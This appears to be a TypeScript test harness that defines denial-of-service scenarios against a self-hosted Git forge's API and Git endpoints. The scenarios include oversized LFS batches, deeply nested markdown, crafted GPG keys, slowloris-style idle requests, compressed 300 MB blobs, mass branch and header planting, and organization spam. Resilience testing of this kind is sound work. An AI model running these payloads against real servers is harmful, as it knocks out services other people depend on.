import { createHash } from 'node:crypto'
import { aCheckout, git } from '../../git/client.ts'
import { largeCommits, longHeader, longNames, type Planted, plant, plantBranches } from '../../git/planted.ts'
import { pktLine } from '../../git/slow-push.ts'
import type { Send } from '../../support/request.ts'

/** The means for preparing an attack. */
export interface AttackSetup {
  /** Without a slash at the end. */
  base: string
  ask: Send
  root: string
  mallory: string
  /** The folder of a repository on the server. */
  folderOf(id: number): string
}

/** One request of an attack. */
export interface AttackRequest {
  method: string
  path: string
  body?: string
  headers?: Record<string, string>
}

/** Input of the attacker's process. */
export interface AttackPlan {
  connections: number
  /** Sent in turn; `#` in a body is replaced by the number of the round. */
  requests?: AttackRequest[]
  /** Bytes that each connection sends before it stays idle. */
  heldRequest?: string
}

export interface Attack {
  name: string
  title: string
  prepare(scene: AttackSetup): Promise<AttackPlan>
}

const JSON_TYPE = { 'content-type': 'application/json' }
const as = (token: string) => ({ authorization: `token ${token}` })

const posts = (connections: number, path: string, body: object, headers = {}): AttackPlan => ({
  connections,
  requests: [{ method: 'POST', path, body: JSON.stringify(body), headers: { ...JSON_TYPE, ...headers } }],
})

const expectStatus = async (answer: ReturnType<Send>, status: number): Promise<void> => {
  const { status: actual, text } = await answer
  if (actual !== status) throw new Error(`preparation of the attack failed: ${actual} ${text}`)
}

const markdown = (connections: number, text: string): AttackPlan =>
  posts(connections, '/api/v1/markdown', { Text: text, Mode: 'gfm' })

const COLUMNS = 1400
const TABLE = `${'a|'.repeat(COLUMNS)}\n${'-|'.repeat(COLUMNS)}\n${'a\n'.repeat(COLUMNS)}`

const batch = (connections: number, authorization: string): AttackPlan => {
  const oid = createHash('sha256').update('there').digest('hex')
  const objects = Array.from({ length: 11_500 }, () => ({ oid, size: 5 }))
  const headers = { 'content-type': 'application/vnd.git-lfs+json', authorization }
  const path = '/mallory/lfs.git/info/lfs/objects/batch'
  return posts(connections, path, { operation: 'download', objects }, headers)
}

const uploadObject = async ({ ask, base, mallory }: AttackSetup): Promise<void> => {
  await expectStatus(ask('POST', '/user/repos', { token: mallory, body: { name: 'lfs' } }), 201)
  const oid = createHash('sha256').update('there').digest('hex')
  const url = `${base}/mallory/lfs.git/info/lfs/objects/${oid}/5`
  const { status } = await fetch(url, { method: 'PUT', headers: as(mallory), body: 'there' })
  if (status !== 200) throw new Error(`the upload of the LFS object failed: ${status}`)
}

const armored = (): string => {
  const packets = Buffer.concat([Buffer.of(0xd2, 0xe0, 1, 0), Buffer.alloc(2 * 47_496, Buffer.of(0xfc, 0))])
  const lines = packets
    .toString('base64')
    .match(/.{1,64}/g)!
    .join('\n')
  return `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${lines}\n-----END PGP PUBLIC KEY BLOCK-----\n`
}

const pushRepository = async (
  { ask, base, mallory }: AttackSetup,
  name: string,
  files: Record<string, Uint8Array>,
) => {
  await expectStatus(ask('POST', '/user/repos', { token: mallory, body: { name } }), 201)
  const checkout = await aCheckout(files)
  const url = new URL(`${base}/mallory/${name}.git`)
  Object.assign(url, { username: 'mallory', password: mallory })
  await git(checkout, 'push', '--quiet', url.href, 'main')
  return git(checkout, 'rev-parse', 'HEAD')
}

const FETCH = { 'content-type': 'application/x-git-upload-pack-request' }
const idlePost = (path: string, headers: string): string =>
  `POST ${path} HTTP/1.1\r\nHost: x.test\r\n${headers}\r\n\r\n`

/** Requests to read a repository with what a push refuses. */
const readPlanted = async (
  { ask, base, mallory, folderOf }: AttackSetup,
  name: string,
  make: () => Planted,
  reads: readonly string[],
  branches = 0,
): Promise<AttackPlan> => {
  const { body, status } = await ask('POST', '/user/repos', { token: mallory, body: { name } })
  if (status !== 201) throw new Error(`the repository was not created: ${status}`)
  // The server closes a connection that is idle while they are made.
  const objects = make()
  await plant(folderOf(body.id), objects)
  if (branches > 0) await plantBranches(folderOf(body.id), objects.at(-1)!.id, branches)
  const url = new URL(`${base}/mallory/${name}.git`)
  Object.assign(url, { username: 'mallory', password: mallory })
  // A push makes the server see what is there.
  await git(await aCheckout(), 'push', '--quiet', url.href, 'main:pushed')
  return { connections: 8, requests: reads.map((path) => ({ method: 'GET', path })) }
}

const WORDS = Array.from({ length: 85 }, (_, index) => `${(index + 360).toString(36)}`)

const prepareSearch = async ({ ask, mallory }: AttackSetup): Promise<AttackPlan> => {
  await expectStatus(ask('POST', '/user/repos', { token: mallory, body: { name: 'issues' } }), 201)
  const body = { title: WORDS.slice(0, -1).join(' ') }
  for (let made = 0; made < 1500; made += 10)
    await Promise.all(
      Array.from({ length: 10 }, () =>
        expectStatus(ask('POST', '/repos/mallory/issues/issues', { token: mallory, body }), 201),
      ),
    )
  // All words, as many as a search uses, and as many of which no title has all.
  const queries = [WORDS, WORDS.slice(0, 16), [...WORDS.slice(0, 15), WORDS.at(-1)!]]
  const shots = queries.map((words) => ({
    method: 'GET',
    path: `/api/v1/repos/mallory/issues/issues?q=${encodeURIComponent(words.join(' '))}`,
    headers: as(mallory),
  }))
  return { connections: 16, requests: shots }
}

const REPOSITORIES = 1500

/** Prepares searches that read every repository. */
const prepareRepositories = async ({ ask, mallory }: AttackSetup): Promise<AttackPlan> => {
  for (let made = 0; made < REPOSITORIES; made += 10)
    await Promise.all(
      Array.from({ length: 10 }, (_, index) =>
        expectStatus(
          ask('POST', '/user/repos', { token: mallory, body: { name: `repo${made + index}` } }),
          201,
        ),
      ),
    )
  const queries = ['sort=updated', 'archived=false&order=desc', 'q=repo,rep,epo']
  const shots = queries.map((query) => ({ method: 'GET', path: `/api/v1/repos/search?limit=1&${query}` }))
  return { connections: 240, requests: shots }
}

/** Prepares as many organizations as the limit allows; the attack adds members to them. */
const prepareOrganizations = async ({ ask, mallory }: AttackSetup): Promise<AttackPlan> => {
  for (let made = 0; made < 500; made += 10)
    await Promise.all(
      Array.from({ length: 10 }, async (_, index) => {
        const username = `org${made + index}`
        await expectStatus(ask('POST', '/orgs', { token: mallory, body: { username } }), 201)
        await ask('PUT', `/orgs/${username}/members/victim`, { token: mallory, body: { role: 'owner' } })
      }),
    )
  const headers = { ...JSON_TYPE, ...as(mallory) }
  return {
    connections: 16,
    requests: Array.from({ length: 500 }, (_, index) => ({
      method: 'PUT',
      path: `/api/v1/orgs/org${index}/members/victim`,
      body: '{"role":"owner"}',
      headers,
    })),
  }
}

export const attacks: readonly Attack[] = [
  { name: 'none', title: 'no attack, for comparison', prepare: async () => ({ connections: 0 }) },
  {
    name: 'lfs-anonymous',
    title: 'LFS batches of 11,500 equal objects with a header of 15,000 characters',
    async prepare(scene) {
      await uploadObject(scene)
      return batch(8, `Foo ${'x'.repeat(15_000)}`)
    },
  },
  {
    name: 'lfs-signed-in',
    title: 'the same, signed in',
    async prepare(scene) {
      await uploadObject(scene)
      return batch(8, `token${' '.repeat(15_000)}${scene.mallory}`)
    },
  },
  {
    name: 'markdown-quotes',
    title: '40 texts of 240 bytes with 236 levels of quotes',
    prepare: async () => markdown(40, `${'>'.repeat(236)}<\n|*`),
  },
  {
    name: 'markdown-tables',
    title: '104 tables of 8.5 KB',
    prepare: async () => markdown(104, TABLE),
  },
  {
    name: 'json-values',
    title: '16 JSON bodies of 49,000 members',
    prepare: async () =>
      posts(
        16,
        '/api/v1/markdown',
        Object.fromEntries(Array.from({ length: 49_000 }, (_, index) => [`k${index}`, 1])),
      ),
  },
  {
    name: 'gpg-key',
    title: 'GPG keys of 47,496 empty packets',
    prepare: async ({ mallory }) =>
      posts(8, '/api/v1/user/gpg_keys', { armored_public_key: armored() }, as(mallory)),
  },
  {
    name: 'idle-fetches',
    title: '64 fetches without a body',
    async prepare(scene) {
      await pushRepository(scene, 'open', { a: Buffer.from('a') })
      const headers = `Content-Type: ${FETCH['content-type']}\r\nTransfer-Encoding: chunked`
      return { connections: 64, heldRequest: idlePost('/mallory/open.git/git-upload-pack', headers) }
    },
  },
  {
    name: 'idle-posts',
    title: '1,000 requests without their bodies',
    prepare: async () => ({
      connections: 1000,
      heldRequest: idlePost('/api/v1/markdown', 'Content-Length: 100'),
    }),
  },
  {
    name: 'zeros',
    title: '16 fetches of 300 MB of zeros that were pushed as 292 KB',
    async prepare(scene) {
      const commit = await pushRepository(scene, 'zeros', { zeros: Buffer.alloc(300_000_000) })
      const body = `${pktLine(`want ${commit} side-band-64k ofs-delta\n`)}0000${pktLine('done\n')}`
      const path = '/mallory/zeros.git/git-upload-pack'
      return { connections: 16, requests: [{ method: 'POST', path, body, headers: FETCH }] }
    },
  },
  { name: 'issue-search', title: 'searches for 16 and for 85 words in 1,500 issues', prepare: prepareSearch },
  {
    name: 'repository-search',
    title: '240 searches that sort or join 1,500 repositories, without signing in',
    prepare: prepareRepositories,
  },
  {
    name: 'organizations',
    title: '500 organizations that make the victim their owner',
    prepare: prepareOrganizations,
  },
  {
    name: 'large-commits',
    title: 'comparisons and lists of 30 commits of 16 MB',
    prepare: (scene) =>
      readPlanted(scene, 'commits', () => largeCommits(30, 16_000_000), [
        '/api/v1/repos/mallory/commits/compare/pushed...main',
        '/api/v1/repos/mallory/commits/commits?limit=50',
        '/mallory/commits',
      ]),
  },
  {
    name: 'long-headers',
    title: 'a commit of 5,000,000 lines of headers, and its pages',
    prepare: (scene) =>
      readPlanted(scene, 'headers', () => longHeader('gpgsig', 5_000_000), [
        '/api/v1/repos/mallory/headers/git/commits/main',
        '/mallory/headers',
      ]),
  },
  {
    name: 'long-names',
    title: 'a folder of 1,000 names of 16,000 bytes, and its pages',
    prepare: (scene) =>
      readPlanted(scene, 'names', () => longNames(1000, 15_996), [
        '/api/v1/repos/mallory/names/contents',
        '/mallory/names',
        '/mallory/names/src/branch/main',
      ]),
  },
  {
    name: 'many-files',
    title: 'a folder of 9,900 files as JSON',
    prepare: (scene) =>
      readPlanted(scene, 'files', () => longNames(9900, 24), ['/api/v1/repos/mallory/files/contents']),
  },
  {
    name: 'many-refs',
    title: 'lists of 100,000 branches',
    prepare: (scene) =>
      readPlanted(
        scene,
        'refs',
        () => largeCommits(1, 10),
        [
          '/api/v1/repos/mallory/refs/git/refs',
          '/api/v1/repos/mallory/refs/branches?limit=1',
          '/mallory/refs',
        ],
        100_000,
      ),
  },
  {
    name: 'one-name',
    title: '60 concurrent requests of an administrator for an account of the same name',
    prepare: async ({ root }) =>
      posts(60, '/api/v1/admin/users', { username: 'many#', password: 'open: sesame' }, as(root)),
  },
]
